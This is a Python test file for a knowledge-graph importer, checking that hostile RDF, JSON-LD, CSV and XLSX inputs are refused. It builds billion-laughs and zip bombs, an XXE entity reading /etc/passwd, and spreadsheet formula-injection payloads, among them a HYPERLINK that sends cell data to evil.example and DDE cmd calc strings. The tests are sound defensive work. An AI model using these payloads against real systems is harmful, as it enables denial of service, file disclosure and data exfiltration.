"""Hostile RDF files: refused with a clear message before they can cost memory or reach the network.

Each case is a file an attacker (or a careless export) could hand to ``ikg import``; the store
must be left exactly as it was.
"""

from __future__ import annotations

import http.server
import json
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest

from ikg.graph.errors import InputError
from ikg.graph.ingest.importer import import_rdf
from ikg.graph.store.embedded import Store

GRAPH = "https://example.org/g"
RDF_HEAD = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">'
    '<rdf:Description rdf:about="http://example.org/s"><ex:p>{body}</ex:p></rdf:Description></rdf:RDF>'
)


def _laughs(levels: int) -> str:
    """The 'billion laughs': ``levels`` nested entities, each ten of the one before."""
    ents = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels + 1))
    return f'<?xml version="1.0"?><!DOCTYPE rdf:RDF [ {ents} ]>' + RDF_HEAD.format(body=f"&l{levels};")


def _size(store: Store) -> int:
    return len(store._ox)


def test_entity_expansion_bomb_is_refused_at_once(store: Store, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.rdf"
    bomb.write_text(_laughs(9), encoding="utf-8")  # 748 bytes; expanded, 3 GB
    assert bomb.stat().st_size < 1000
    before = _size(store)
    started = time.perf_counter()
    with pytest.raises(InputError) as info:
        import_rdf(store, bomb, GRAPH)
    assert time.perf_counter() - started < 2
    (problem,) = info.value.problems
    assert problem.code == "xml_doctype"
    assert "DOCTYPE" in problem.message("en") and "Gigabytes" in problem.message("de")
    assert _size(store) == before


@pytest.mark.parametrize(
    ("name", "text", "encoding"),
    [
        (
            "external entity",
            '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + RDF_HEAD.format(body="&x;"),
            "utf-8",
        ),
        ("plain doctype", "<!DOCTYPE rdf:RDF>" + RDF_HEAD.format(body="x"), "utf-8"),
        ("utf-16 with a byte order mark", _laughs(3), "utf-16"),
        ("utf-16 big endian", _laughs(3), "utf-16-be"),
    ],
)
def test_any_doctype_is_refused(store: Store, tmp_path: Path, name: str, text: str, encoding: str) -> None:
    path = tmp_path / "x.rdf"
    path.write_bytes(text.encode(encoding))
    with pytest.raises(InputError) as info:
        import_rdf(store, path, GRAPH)
    assert [p.code for p in info.value.problems] == ["xml_doctype"], name


def test_rdf_xml_without_doctype_still_imports(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "ok.rdf"
    path.write_text('<?xml version="1.0"?>' + RDF_HEAD.format(body="Sprache"), encoding="utf-8")
    result = import_rdf(store, path, GRAPH)
    assert result.triples == 1


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Recorder.hits.append(self.path)
        body = b'{"@context": {"name": "http://schema.org/name"}}'
        self.send_response(200)
        self.send_header("Content-Type", "application/ld+json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        return None


@pytest.fixture
def context_server() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    _Recorder.hits = []
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/context.jsonld"
    finally:
        server.shutdown()
        server.server_close()


def test_jsonld_with_a_remote_context_is_refused_and_never_fetched(
    store: Store, tmp_path: Path, context_server: str
) -> None:
    path = tmp_path / "x.jsonld"
    path.write_text(f'{{"@context": "{context_server}", "@id": "http://example.org/s", "name": "x"}}', encoding="utf-8")
    before = _size(store)
    with pytest.raises(InputError) as info:
        import_rdf(store, path, GRAPH)
    assert [p.code for p in info.value.problems] == ["jsonld_remote_context"]
    assert "Kontext in die Datei einbetten" in info.value.problems[0].message("de")
    assert _Recorder.hits == []
    assert _size(store) == before


def test_jsonld_with_an_inline_context_imports(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "x.jsonld"
    path.write_text(
        '{"@context": {"name": "http://schema.org/name"}, "@id": "http://example.org/s", "name": "x"}', encoding="utf-8"
    )
    assert import_rdf(store, path, GRAPH).triples == 1


# --- spreadsheets ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _workbook_with_formulas(path: Path) -> Path:
    """SMALL as an XLSX whose three extra actors are named by formulas (openpyxl stores them as formulas)."""
    import openpyxl

    from .conftest import SMALL

    wb = openpyxl.Workbook(write_only=True)
    for name, rows in SMALL.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
        if name == "akteure":
            for k, formula in enumerate(FORMULAS):
                ws.append([f"formel-{k}", formula, "verein", "", "", ""])
    wb.save(path)
    return path


def test_formulas_are_data_and_neutralised_in_csv_output(tmp_path: Path, run_ikg: Any) -> None:
    import csv
    import io
    import zipfile

    book = _workbook_with_formulas(tmp_path / "formeln.xlsx")
    with zipfile.ZipFile(book) as z:  # the cells really are formulas, not text
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert sheets.count("<f>") == 2  # the two starting with "="; "@..." is a text cell
    run_ikg("--no-seed", "import", str(book), check=True)
    out = run_ikg("--no-seed", "metrics", "--format", "csv", check=True).stdout
    rows = list(csv.reader(io.StringIO(out)))
    labels = {r[rows[0].index("label")] for r in rows[1:]}
    for formula in FORMULAS:
        assert "'" + formula in labels  # stored as the text typed, written with a leading apostrophe
    assert not any(cell.startswith(("=", "@")) for r in rows for cell in r)
    plain = run_ikg("--no-seed", "metrics", "--format", "json", check=True).stdout
    assert json.loads(plain)["actors"] and FORMULAS[0] in {a["label"] for a in json.loads(plain)["actors"]}


def _small_with(tmp_path: Path, extra_actor: list[str], name: str = "set") -> Path:
    from .conftest import SMALL, write_csv_set

    tables = {**SMALL, "akteure": [*SMALL["akteure"], extra_actor]}
    return write_csv_set(tmp_path / name, tables, encodings=dict.fromkeys(SMALL, "utf-8"))


def test_a_cell_longer_than_excel_allows_is_named(store: Store, tmp_path: Path) -> None:
    from ikg.graph.ingest.importer import import_spreadsheet

    folder = _small_with(tmp_path, ["lang", "L" * 40_000, "verein", "", "", ""])
    with pytest.raises(InputError) as info:
        import_spreadsheet(store, folder)
    (problem,) = [p for p in info.value.problems if p.code == "cell_too_long"]
    assert (problem.source, problem.row, problem.column) == ("akteure.csv", 7, "name")
    assert "40000" in problem.message("en") and "32767" in problem.message("en")


def test_a_field_past_the_csv_limit_names_its_row(store: Store, tmp_path: Path) -> None:
    from ikg.graph.ingest.importer import import_spreadsheet

    folder = _small_with(tmp_path, ["riesig", "R" * 300_000, "verein", "", "", ""])
    before = len(store._ox)
    with pytest.raises(InputError) as info:
        import_spreadsheet(store, folder)
    (problem,) = [p for p in info.value.problems if p.code == "unreadable"]
    assert problem.source == "akteure.csv"
    assert "row 7" in problem.message("en") and "field larger than field limit" in problem.message("en")
    assert len(store._ox) == before


def test_a_million_rows_above_the_cap_are_refused_before_reading(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ikg.graph.ingest.importer import import_spreadsheet

    from .conftest import SMALL, write_csv_set

    folder = write_csv_set(tmp_path / "gross", SMALL)
    with (folder / "akteure.csv").open("a", encoding="cp1252") as fh:
        fh.writelines(f"a{i};Akteur {i};verein;;;\r\n" for i in range(1_000_000))
    size = sum(f.stat().st_size for f in folder.iterdir())
    assert size > 25 * 1024 * 1024
    monkeypatch.setenv("IKG_MAX_INPUT_MB", "20")
    started = time.perf_counter()
    with pytest.raises(InputError) as info:
        import_spreadsheet(store, folder)
    assert time.perf_counter() - started < 1.0  # refused by size, not after parsing a million rows
    (problem,) = info.value.problems
    assert problem.code == "too_large" and "20.0 MB" in problem.message("en")


def test_an_xml_bomb_inside_a_workbook_is_refused(store: Store, tmp_path: Path) -> None:
    """Entity declarations in any XML part of a workbook are refused before openpyxl parses it
    (openpyxl would refuse them too, through defusedxml, but with a message nobody understands)."""
    import zipfile

    from ikg.graph.ingest.importer import import_spreadsheet

    good = _workbook_with_formulas(tmp_path / "gut.xlsx")
    bad = tmp_path / "bombe.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bad, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                text = data.decode()
                laughs = _laughs(9).split("]>", 1)[0].split("[", 1)[1]
                text = f'<?xml version="1.0"?><!DOCTYPE worksheet [{laughs}]>' + text.split("?>", 1)[-1]
                data = text.replace(
                    "<sheetData>", "<sheetData><row r='999'><c r='A999' t='inlineStr'><is><t>&l9;</t></is></c></row>", 1
                ).encode()
            dst.writestr(info, data)
    started = time.perf_counter()
    with pytest.raises(InputError) as info:
        import_spreadsheet(store, bad)
    assert time.perf_counter() - started < 5
    (problem,) = [p for p in info.value.problems if p.code == "xlsx_doctype"]
    assert problem.source == "bombe.xlsx" and "xl/worksheets/sheet" in problem.message("en")
    assert "Gigabytes" in problem.message("de")


def test_mixed_encodings_in_one_folder(store: Store, tmp_path: Path) -> None:
    """German Excel writes cp1252, other tools UTF-8 with or without a BOM: per file, all readable."""
    from ikg.graph.ingest.importer import import_spreadsheet

    from .conftest import SMALL, write_csv_set

    names = sorted(SMALL)
    encodings = {n: ("utf-8-sig", "utf-8", "cp1252")[i % 3] for i, n in enumerate(names)}
    tables = {**SMALL, "akteure": [*SMALL["akteure"], ["umlaut", "Bürgerverein Größe", "verein", "", "", ""]]}
    folder = write_csv_set(tmp_path / "gemischt", tables, encodings=encodings)
    import_spreadsheet(store, folder)
    assert store.ask(
        'PREFIX skos: <http://www.w3.org/2004/02/skos/core#> ASK { GRAPH ?g { ?a skos:prefLabel "Bürgerverein Größe"@de } }'
    )


def test_a_zip_bomb_workbook_is_refused_before_inflating(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A workbook whose parts unpack to more than ten times the cap is refused from its zip index."""
    import zipfile

    from ikg.graph.ingest.importer import import_spreadsheet

    good = _workbook_with_formulas(tmp_path / "gut.xlsx")
    bomb = tmp_path / "bombe.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info.filename))
        dst.writestr("xl/media/padding.xml", b"0" * 30_000_000)  # 30 MB of zeros, some 30 KB packed
    assert bomb.stat().st_size < 200_000
    monkeypatch.setenv("IKG_MAX_INPUT_MB", "2")
    with pytest.raises(InputError) as info:
        import_spreadsheet(store, bomb)
    (problem,) = info.value.problems
    assert problem.code == "too_large" and "20.0 MB" in problem.message("en")


def test_right_to_left_names_are_kept_but_overrides_are_not(store: Store, tmp_path: Path) -> None:
    """Arabic and Hebrew names need U+200F (RLM); only the bidi overrides of Trojan Source are refused."""
    from ikg.graph.ingest.importer import import_spreadsheet

    name = "\u200fجمعية الجالية العربية"
    import_spreadsheet(store, _small_with(tmp_path, ["arabisch", name, "migrantenorganisation", "", "", ""], "rtl"))
    assert store.ask(
        "PREFIX skos: <http://www.w3.org/2004/02/skos/core#> ASK { GRAPH ?g { ?a skos:prefLabel ?l } "
        f'FILTER(STR(?l) = "{name}") }}'
    )
    with pytest.raises(InputError) as info:
        import_spreadsheet(store, _small_with(tmp_path, ["x", "Verein\u2067evil", "verein", "", "", ""], "isolate"))
    assert [p.code for p in info.value.problems if p.severity == "error"] == ["bad_text"]


def test_duplicate_headers_are_named(store: Store, tmp_path: Path) -> None:
    """Two columns that mean the same (``name`` and its German alias ``Name``) would make one row
    say two things: refused with the column, in CSV and in XLSX."""
    import openpyxl

    from ikg.graph.ingest.importer import import_spreadsheet

    from .conftest import SMALL, write_csv_set

    header = SMALL["akteure"][0]
    doubled = [[*header, header[1]]] + [[*row, "Zweitname"] for row in SMALL["akteure"][1:]]
    folder = write_csv_set(tmp_path / "doppelt", {**SMALL, "akteure": doubled})
    with pytest.raises(InputError) as info:
        import_spreadsheet(store, folder)
    found = [(p.code, p.source, p.row, p.column) for p in info.value.problems if p.code == "duplicate_column"]
    assert found == [("duplicate_column", "akteure.csv", 1, "name")]
    wb = openpyxl.Workbook(write_only=True)
    for sheet, rows in {**SMALL, "akteure": doubled}.items():
        ws = wb.create_sheet(sheet)
        for row in rows:
            ws.append(row)
    wb.save(tmp_path / "doppelt.xlsx")
    with pytest.raises(InputError) as info:
        import_spreadsheet(store, tmp_path / "doppelt.xlsx")
    assert [(p.source, p.column) for p in info.value.problems if p.code == "duplicate_column"] == [("akteure", "name")]
